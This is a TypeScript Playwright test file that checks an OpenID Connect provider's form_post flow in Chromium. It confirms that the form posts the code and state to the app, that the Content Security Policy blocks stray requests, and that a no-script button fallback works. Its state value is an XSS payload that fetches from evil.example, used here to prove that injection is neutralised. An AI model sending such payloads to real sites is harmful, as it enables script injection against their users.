/** form_post in a real Chromium: under our policy the form sends itself, and nothing else runs. */
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { text } from 'node:stream/consumers';
import type { Browser } from 'playwright-core';
import { launchBrowser, openVisit, type Visit } from '../support/browser.ts';
import { startOrigin, stopOrigins, type TestOrigin } from '../support/origins.ts';
import { startWithClients } from '../support/protocol.ts';
import type { TestProvider } from '../support/provider.ts';
import { authorizationRequest, login } from '../support/relying-party.ts';

let app: TestOrigin;
let provider: TestProvider;
let browser: Browser;
const received: URLSearchParams[] = [];
beforeAll(async () => {
  app = await startOrigin((request, response) => {
    void text(request).then((body) => {
      if (request.method === 'POST') received.push(new URLSearchParams(body));
      response.writeHead(200, { 'content-type': 'text/html' }).end('<title>At the app</title>');
    });
  });
  provider = await startWithClients([
    {
      client_id: 'posted',
      redirect_uris: [`${app.origin}/callback`],
      token_endpoint_auth_method: 'none',
      first_party: true,
    },
  ]);
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser.close();
  await provider.close();
  await stopOrigins();
});

/** A browser that is signed in already. */
async function openSignedIn(scripts: boolean) {
  const extra = { client_id: 'posted', redirect_uri: `${app.origin}/callback`, scope: 'openid' };
  const { visitor } = await login(provider.issuer, 'alice.sandbox', extra);
  const visit = await openVisit(browser, {
    scripts,
    allowedOrigins: [provider.issuer, app.origin],
  });
  await visit.page.context().addCookies(
    [...visitor.cookies.values()].map(({ name, value, path }) => ({
      name,
      value,
      path,
      domain: 'localhost',
    })),
  );
  const state = '"><script>document.title="owned";fetch("https://evil.example/")</script>';
  const request = authorizationRequest(provider.issuer, {
    ...extra,
    response_mode: 'form_post',
    state,
  });
  received.length = 0;
  return { visit, request, state };
}

const violations = ({ complaints }: Visit) =>
  complaints.filter((complaint) => complaint.includes('Content Security Policy'));

test('the form sends itself to the app, and markup in state stays text', async () => {
  const { visit, request, state } = await openSignedIn(true);
  await visit.page.goto(request.url);
  await visit.page.waitForURL(`${app.origin}/callback`);
  const [posted] = received;
  expect(posted?.get('state')).toBe(state);
  expect(posted?.get('code')).not.toBeNull();
  expect(posted?.get('iss')).toBe(provider.issuer);
  expect([violations(visit), visit.strayRequests]).toEqual([[], []]);
  await visit.close();
});

test('without scripts there is a button', async () => {
  const { visit, request, state } = await openSignedIn(false);
  await visit.page.goto(request.url);
  await visit.page.getByRole('button', { name: 'Continue' }).click();
  await visit.page.waitForURL(`${app.origin}/callback`);
  expect(received[0]?.get('state')).toBe(state);
  expect([violations(visit), visit.strayRequests]).toEqual([[], []]);
  await visit.close();
});
